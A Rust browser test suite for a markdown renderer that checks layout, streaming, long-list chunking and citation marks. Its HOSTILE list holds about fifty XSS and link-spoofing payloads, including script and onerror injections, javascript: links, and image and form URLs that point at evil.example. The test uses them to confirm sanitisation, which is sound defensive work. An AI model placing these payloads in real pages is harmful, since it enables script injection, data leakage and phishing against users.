//! What documents become on the page, and what hostile ones do not.
#![cfg(target_arch = "wasm32")]

use std::{cell::RefCell, rc::Rc};

use lineup::browser::paint::{Cite, DocumentView, Labels, Listing};
use wasm_bindgen_test::{wasm_bindgen_test, wasm_bindgen_test_configure};
use web_sys::Element;

wasm_bindgen_test_configure!(run_in_browser);

fn labels() -> Labels {
    Labels {
        copy: "Copy".into(),
        copied: "Copied".into(),
        code: "code".into(),
        image: "Picture:".into(),
        done: "done".into(),
        not_done: "not done".into(),
        continued: "continued".into(),
    }
}

struct Page {
    root: Element,
    view: DocumentView,
}

/// The rules by which documents are laid out.
const STYLE: &str = include_str!("../style/components/document.css");

impl Page {
    fn new() -> Self {
        let document = web_sys::window().and_then(|window| window.document()).expect("a page");
        if document.query_selector("head > style").expect("a selector").is_none() {
            let style = document.create_element("style").expect("an element");
            style.set_text_content(Some(STYLE));
            document.head().expect("a head").append_child(&style).expect("appended");
        }
        let root = document.create_element("div").expect("an element");
        root.set_class_name("document");
        document.body().expect("a body").append_child(&root).expect("appended");
        let view = DocumentView::new(root.clone(), labels(), |_| {}).expect("a view");
        Self { root, view }
    }

    /// The text as it would stream, character by character.
    fn streamed(markdown: &str) -> Self {
        let page = Self::new();
        for c in markdown.chars() {
            page.view.push(c.encode_utf8(&mut [0; 4]));
            page.view.flush();
        }
        page.view.finish();
        page.view.flush();
        page
    }

    fn at_once(markdown: &str) -> Self {
        let page = Self::new();
        page.view.push(markdown);
        page.view.finish();
        page.view.flush();
        page
    }

    fn all(&self, selector: &str) -> Vec<Element> {
        use wasm_bindgen::JsCast;
        let found = self.root.query_selector_all(selector).expect("a selector");
        (0..found.length()).filter_map(|index| found.item(index)?.dyn_into().ok()).collect()
    }

    fn texts(&self, selector: &str) -> Vec<String> {
        self.all(selector).iter().map(|element| element.text_content().unwrap_or_default()).collect()
    }

    /// What is on the page, to be compared and read.
    fn outline(&self) -> String {
        let mut out = String::new();
        outline(&self.root, &mut out);
        out
    }
}

fn outline(node: &web_sys::Node, out: &mut String) {
    use wasm_bindgen::JsCast;
    let Some(element) = node.dyn_ref::<Element>() else {
        out.push_str(&node.text_content().unwrap_or_default());
        return;
    };
    let attributes: Vec<_> = element
        .get_attribute_names()
        .iter()
        .filter_map(|name| name.as_string())
        .map(|name| format!(" {name}={}", element.get_attribute(&name).unwrap_or_default()))
        .collect();
    out.push_str(&format!("<{}{}>", element.tag_name(), attributes.concat()));
    let children = element.child_nodes();
    (0..children.length()).filter_map(|index| children.item(index)).for_each(|child| outline(&child, out));
    out.push_str("</>");
}

impl Drop for Page {
    fn drop(&mut self) {
        self.root.remove();
    }
}

#[wasm_bindgen_test]
fn each_kind_has_its_element() {
    let page = Page::streamed(
        "# Title\n\nText with *em*, **strong**, ~~gone~~, `code` and [a link](https://example.com/x \"t\").\n\n> quote\n\n1. one\n2. two\n   - [x] done\n   - [ ] open\n\n---\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n\n```rust\nfn main() {}\n```\n\n![a cat](https://example.com/cat.png)\n",
    );
    for (selector, texts) in [
        ("h3.heading-1", vec!["Title"]),
        ("p > em", vec!["em"]),
        ("p > strong", vec!["strong"]),
        ("p > s", vec!["gone"]),
        ("p > code", vec!["code"]),
        ("blockquote > p", vec!["quote"]),
        (".list > ol > li > p", vec!["one", "two"]),
        ("li.task p", vec!["done", "open"]),
        ("table > thead > tr > th", vec!["a", "b"]),
        ("table > tbody > tr > td.cell-right", vec!["1"]),
        (".code-block .code-lang", vec!["rust"]),
        (".code-block pre > code", vec!["fn main() {}\n"]),
        (".code-block button", vec!["Copy"]),
        (".image-chip-name", vec!["a cat"]),
    ] {
        assert_eq!(page.texts(selector), texts, "{selector} in {}", page.outline());
    }
    assert_eq!(page.all("img").len(), 0, "no picture is fetched");
    let link = &page.all("p > a")[0];
    for (name, value) in [
        ("href", "https://example.com/x"),
        ("rel", "noopener noreferrer"),
        ("target", "_blank"),
        ("data-host", "example.com"),
        ("title", "t\nhttps://example.com/x"),
    ] {
        assert_eq!(link.get_attribute(name).as_deref(), Some(value), "{name}");
    }
}

#[wasm_bindgen_test]
fn a_streamed_document_is_the_same_page_as_a_whole_one() {
    for markdown in [
        "Title\n===\n\ntext\n\n- a\n- b\n\n  c\n- d\n",
        "| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n\nafter",
        "- a\n  ```rust\n  let x = 1;\n\n  let y = 2;\n  ```\n- b\n",
        "see [late]\n\n- item\n\n[late]: https://example.com\n",
        "한국어 **굵게**\n\n> 인용\n> 둘째\n",
    ] {
        let (mut streamed, whole) = (Page::streamed(markdown), Page::at_once(markdown));
        streamed.root.normalize();
        whole.root.normalize();
        assert_eq!(streamed.outline(), whole.outline(), "{markdown}");
        streamed.view.reset();
        assert_eq!(streamed.texts(".doc-part"), [""]);
        streamed = Page::new();
        streamed.view.show("a");
        streamed.view.show("ab");
        streamed.view.flush();
        assert_eq!(streamed.texts("p"), ["ab"]);
        streamed.view.show("c");
        streamed.view.flush();
        assert_eq!(streamed.texts("p"), ["c"], "a shorter text is another one");
    }
}

#[wasm_bindgen_test]
fn a_long_list_goes_on_with_the_right_number() {
    let list: String = (1..=120).map(|n| format!("{n}. item {n}\n")).collect();
    let page = Page::streamed(&list);
    let starts: Vec<_> = page.all(".list > ol").iter().map(|list| list.get_attribute("start")).collect();
    assert_eq!(starts, [None, Some("33".into()), Some("65".into()), Some("97".into())]);
    assert_eq!(page.all("li").len(), 120);
}

#[wasm_bindgen_test]
fn a_long_table_keeps_its_columns() {
    let rows: String = (1..=120).map(|n| format!("| {n} | text |\n")).collect();
    let page = Page::at_once(&format!("| number | word |\n|---|---|\n{rows}"));
    let tables = page.all("table");
    assert_eq!(tables.len(), 4);
    assert_eq!(page.all("tbody > tr").len(), 120);
    let left_edges: Vec<_> = tables
        .iter()
        .filter_map(|table| table.query_selector("td:nth-child(2)").ok().flatten())
        .map(|cell| cell.get_bounding_client_rect().left())
        .collect();
    assert!(left_edges.iter().all(|left| (left - left_edges[0]).abs() < 1.5), "{left_edges:?}");
}

#[wasm_bindgen_test]
fn very_long_containers_are_grouped_and_lose_nothing() {
    let item = |n: u32| format!("{n}. item {n}\n");
    let page = Page::streamed(&(1..=1_400).map(item).collect::<String>());
    let starts: Vec<_> =
        page.all(".list ol").iter().map(|list| list.get_attribute("start").map_or(1, |start| start.parse().unwrap_or(0))).collect();
    assert_eq!(starts, (0..44).map(|part| part * 32 + 1).collect::<Vec<u32>>());
    assert_eq!(page.texts("li"), (1..=1_400).map(|n| format!("item {n}")).collect::<Vec<_>>());
    assert_eq!(page.all(".list > ol").len(), 4);
    assert_eq!(page.all(".list > .parts:not(.parts-many)").len(), 8);
    assert_eq!(page.all(".list > .parts-many > .parts").len(), 2);
    assert_eq!(page.all(".list > .parts:last-child > .parts:last-child > ol").len(), 4);

    let rows: String = (1..=1_400).map(|n| format!("| {n} | text |\n")).collect();
    let page = Page::at_once(&format!("| number | word |\n|---|---|\n{rows}"));
    let numbers: Vec<_> = (1..=1_400).map(|n| n.to_string()).collect();
    assert_eq!(page.texts("tbody td:first-child"), numbers);
    assert_eq!(page.all(".parts table").len(), 40);

    let lines: String = (1..=1_400).map(|n| format!("line {n}\n")).collect();
    let page = Page::at_once(&format!("```text\n{lines}```\n"));
    assert_eq!(page.texts("pre code"), [lines]);
}

/// Two pictures of the page.
async fn drawn() {
    for _ in 0..2 {
        let frame = js_sys::Promise::new(&mut |done, _| {
            _ = web_sys::window().map(|window| window.request_animation_frame(&done));
        });
        wasm_bindgen_futures::JsFuture::from(frame).await.expect("a frame");
    }
}

/// Calls a function of the test's own, whose body is this, with an element.
fn call(body: &str, element: &Element) -> wasm_bindgen::JsValue {
    js_sys::Function::new_with_args("element", body).call1(&wasm_bindgen::JsValue::NULL, element).expect("no error")
}

#[wasm_bindgen_test]
async fn groups_far_above_are_put_in_anew_and_show_what_they_showed() {
    const NOTE_WHAT_MOVES: &str = "window.moved = [];
        const places = (node) => node.isConnected && [...document.querySelectorAll('.parts-many')].indexOf(node);
        const moved = (records) => records.forEach((record) => window.moved.push(...[...record.removedNodes].map(places)));
        window.observer = new MutationObserver(moved);
        window.observer.observe(element, { childList: true, subtree: true });";
    let page = Page::new();
    call("element.style.cssText = 'height: 300px; overflow: auto; line-height: 20px'", &page.root);
    call(NOTE_WHAT_MOVES, &page.root);
    let mut heights = Vec::new();
    // 1,152 stand outside; then there are six large groups.
    for batch in 0..(1_152 + 5 * 1_024 + 128) / 128 {
        let items: String = (1..=128).map(|n| format!("1. item {}\n", batch * 128 + n)).collect();
        page.view.push(&items);
        page.view.flush();
        page.root.set_scroll_top(10_000_000);
        drawn().await;
        let groups = page.all(".parts-many");
        if let [.., last, _] = groups.as_slice()
            && groups.len() > heights.len() + 1
        {
            heights.push(last.get_bounding_client_rect().height());
        }
        if groups.len() == 2 && heights.len() == 1 {
            let selects =
                "const item = element.querySelectorAll('.parts-many')[1].querySelector('li'); getSelection().selectAllChildren(item)";
            call(selects, &page.root);
        }
    }
    page.view.finish();
    page.view.flush();
    drawn().await;
    call("window.observer.disconnect()", &page.root);
    let moved = call("return window.moved.join()", &page.root).as_string();
    // Of the first four one has the selection.
    assert_eq!(moved.as_deref(), Some("0,2,3"));
    assert!(call("return getSelection().toString()", &page.root).as_string().is_some_and(|text| text.starts_with("item ")));
    let now: Vec<f64> = page.all(".parts-many").iter().map(|group| group.get_bounding_client_rect().height()).collect();
    assert_eq!(now[..heights.len()], heights, "a height is remembered");
    assert_eq!(page.texts("li").len(), 1_152 + 5 * 1_024 + 128);
    // Whoever goes up finds all of it, and as high as it was.
    let (before, first) = (page.root.scroll_height(), page.all(".parts-many")[0].clone());
    call("element.scrollIntoView()", &first);
    drawn().await;
    drawn().await;
    assert!((page.root.scroll_height() - before).abs() < 3, "{before} {}", page.root.scroll_height());
    let shown = call(
        "return [...element.querySelectorAll('li')].filter((item) => item.checkVisibility({ contentVisibilityAuto: true })).length",
        &first,
    );
    assert!(shown.as_f64().is_some_and(|shown| (10.0..1_000.0).contains(&shown)), "{shown:?}");
}

#[wasm_bindgen_test]
fn a_very_long_paragraph_goes_on_in_parts_and_loses_nothing() {
    let sentence = "the model writes *tokens*, one after another, until it stops; ";
    let text = sentence.repeat(800);
    let page = Page::streamed(&text);
    let shown = text.replace('*', "");
    assert_eq!(page.texts("p"), [shown.trim_end()]);
    let parts = page.texts(".text-part");
    assert!((2..8).contains(&parts.len()), "{}", parts.len());
    assert!(parts.iter().all(|part| part.starts_with(' ')), "each begins where a line may break");
    let short = Page::streamed(&sentence.repeat(20));
    assert!(short.all(".text-part").is_empty());
    let word = Page::at_once(&"0123456789abcdef".repeat(6_000));
    assert!(word.all(".text-part").len() > 1, "a text without white space too");
}

/// Everything that may ever come out of a document.
const ELEMENTS: &str = "DIV P H3 H4 H5 H6 BLOCKQUOTE UL OL LI TABLE THEAD TBODY TR TH TD COLGROUP COL HR BR EM STRONG S CODE PRE A SPAN SUP BUTTON \
     math merror mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow ms mspace msqrt mstyle msub msubsup msup mtable mtd \
     mtext mtr munder munderover";

const ATTRIBUTES: &str = "aria-label class data-host href rel role scope start tabindex target title type";

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//evil.example></script>",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    "text <img src=x onerror=alert(1)> text",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=q autofocus onfocus=alert(1)></form>",
    "<style>@import '//evil.example';</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](blob:https://x/y)",
    "[x](//evil.example) [y](/path) [z](#hash) [w](\\\\evil.example)",
    "[x](https://bank.example@evil.example) [y](https://evil.example\\@bank.example)",
    "<javascript:alert(1)> <data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1)) ![y](https://evil.example/?q=secret) ![z](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x\" onerror=\"alert(1)](https://evil.example/a.png \"t\\\" onload=\\\"alert(1)\")",
    "[x](https://example.com \"t\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://example.com/\"onmouseover=\"alert(1))",
    "```\"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>x</script> | [x](javascript:x) |",
    "\\(\\text{<img src=x onerror=alert(1)>}\\) $\\href{javascript:alert(1)}{x}$ $\\unicode{x3C}$",
    "\\[\\style{position:fixed}{x}\\class{page}{y}\\]",
    "[^1]: <script>alert(1)</script>\n\n[^1]",
    "- [x] <img src=x onerror=alert(1)>\n- [ ] [a](javascript:x)",
    "# <img src=x onerror=alert(1)>\n\n[x](javascript:x)\n===",
    "<div style=\"position:fixed;inset:0\">overlay</div>",
    "pay\u{202E}lap.com [pay\u{200B}pal](https://evil.example) [\u{202E}moc.elgoog](https://evil.example)",
];

#[wasm_bindgen_test]
fn nothing_hostile_becomes_more_than_text() {
    let elements: Vec<_> = ELEMENTS.split_whitespace().collect();
    let attributes: Vec<_> = ATTRIBUTES.split_whitespace().collect();
    assert!(HOSTILE.len() >= 40);
    for markdown in HOSTILE {
        for page in [Page::streamed(markdown), Page::at_once(markdown)] {
            for element in page.all("*") {
                assert!(elements.contains(&element.tag_name().as_str()), "<{}> from {markdown}: {}", element.tag_name(), page.outline());
                for name in element.get_attribute_names().iter().filter_map(|name| name.as_string()) {
                    assert!(attributes.contains(&name.as_str()), "{name} from {markdown}: {}", page.outline());
                }
                if let Some(href) = element.get_attribute("href") {
                    let allowed = ["https://", "http://", "mailto:"].iter().any(|scheme| href.starts_with(scheme));
                    assert!(allowed && !href.contains('@') || href.starts_with("mailto:"), "{href} from {markdown}");
                    assert_eq!(element.get_attribute("rel").as_deref(), Some("noopener noreferrer"), "{markdown}");
                }
            }
            let text = page.root.text_content().unwrap_or_default();
            assert!(!text.contains(['\u{202E}', '\u{200B}']), "{markdown}");
        }
    }
}

#[wasm_bindgen_test]
fn a_formula_shows_its_source_until_it_is_rendered() {
    let page = Page::at_once("so $x^2$ and\n\\[\ny\n+ z\n\\]\n");
    assert_eq!(page.texts(".math > code"), ["x^2", "y\n+ z"]);
    assert_eq!(page.texts(".math-block > code"), ["y\n+ z"]);
}

fn cite(source: u32, address: Option<&str>, words: &str, nth: usize) -> Cite {
    Cite { source, label: format!("Source {source}"), address: address.map(str::to_owned), words: words.to_owned(), nth }
}

impl Page {
    /// The text with its marks, and the sources that have one.
    fn cited(markdown: &str, cites: Vec<Cite>) -> (String, Vec<u32>) {
        let page = Self::new();
        let placed = Rc::new(RefCell::new(Vec::new()));
        let told = Rc::clone(&placed);
        page.view.push(markdown);
        page.view.finish_citing(cites, move |sources| *told.borrow_mut() = sources);
        // The end may be told more than once.
        page.view.finish();
        page.view.flush();
        (page.root.text_content().unwrap_or_default(), placed.take())
    }
}

#[wasm_bindgen_test]
fn marks_stand_behind_what_is_cited() {
    let text = "It is old ([a](https://a.example)). **It** is old.\n\n- It is old\n- new";
    let (shown, placed) = Page::cited(
        text,
        vec![
            cite(1, Some("https://a.example"), "It is old", 0),
            cite(2, None, "is old", 1),
            cite(3, None, "is old", 2),
            cite(4, None, "is old", 2),
            cite(5, Some("https://b.example"), "nowhere", 0),
            cite(6, None, "", 0),
        ],
    );
    assert_eq!(shown, "It is old (a1). It is old2.It is old34new");
    assert_eq!(placed, [1, 2, 3, 4]);
}

#[wasm_bindgen_test]
fn marks_of_one_address_go_to_its_links_in_turn_and_then_to_the_words() {
    let link = "[a](https://a.example)";
    let to = |words, nth| cite(1, Some("https://a.example"), words, nth);
    let (shown, placed) =
        Page::cited(&format!("x {link} y {link}; last words."), vec![to("", 0), to("", 0), to("last words", 0), to("", 0)]);
    assert_eq!(shown, "x a1 y a1; last words1.");
    assert_eq!(placed, [1, 1, 1]);
}

#[wasm_bindgen_test]
fn a_mark_is_a_button_whose_label_is_text() {
    let page = Page::new();
    page.view.push("안녕하세요 😀 words\n\n```rust\nlet code = 1;\n```\n");
    let label = "<img src=x onerror=alert(1)>".to_owned();
    let marks = vec![Cite { label: label.clone(), ..cite(1, None, "😀 wo", 0) }, cite(2, None, "let code", 0)];
    page.view.finish_citing(marks, |_| {});
    page.view.flush();
    assert_eq!(page.texts("p"), ["안녕하세요 😀 wo1rds"]);
    let marks = page.all("sup > button.cite-mark");
    assert_eq!(marks[0].get_attribute("aria-label"), Some(label));
    assert_eq!(page.all("img").len(), 0);
}

#[wasm_bindgen_test]
fn a_listing_shows_each_text_whole_and_keeps_the_lines_that_stay() {
    let document = web_sys::window().and_then(|window| window.document()).expect("a page");
    let root = document.create_element("pre").expect("an element");
    let listing = Listing::new(root.clone()).expect("a listing");
    let text = || root.text_content().unwrap_or_default();
    listing.show("{\n  \"a\": 1,\n  \"b\": 2\n}", "json");
    assert_eq!(text(), "{\n  \"a\": 1,\n  \"b\": 2\n}");
    let (first, last) = (root.first_element_child(), root.last_element_child());
    for shown in ["{\n  \"a\": <b>,\n  \"c\": 3,\n  \"b\": 2\n}", "{\n}", "{\n  \"a\": 1,\n  \"a\": 1,\n  \"a\": 1\n}"] {
        listing.show(shown, "json");
        assert_eq!(text(), shown);
        assert_eq!((root.first_element_child(), root.last_element_child()), (first.clone(), last.clone()), "{shown}");
    }
    for (shown, word) in [("", "json"), ("a\n\n", "json"), ("a\n\n", "js"), ("{\n}", "no language"), ("{\n}", "json"), ("\n", "json")] {
        listing.show(shown, word);
        assert_eq!(text(), shown);
    }
    let long = "[1]\n".repeat(20_000);
    listing.show(&long, "json");
    assert_eq!(text(), long);
    assert_eq!(root.child_element_count(), 0, "too long for colours");
}

#[wasm_bindgen_test]
fn a_block_of_code_that_was_open_is_forgotten_with_its_document() {
    let page = Page::new();
    page.view.push("```js\nlet x = 1\n");
    page.view.flush();
    page.view.reset();
    page.view.push("> a quote\n\n- a list\n\nand text\n\nafter it\n");
    page.view.finish();
    page.view.flush();
    assert_eq!(page.texts("blockquote, li, .doc-part > p"), ["a quote", "a list", "and text", "after it"]);
    assert!(page.all("pre").is_empty());
}
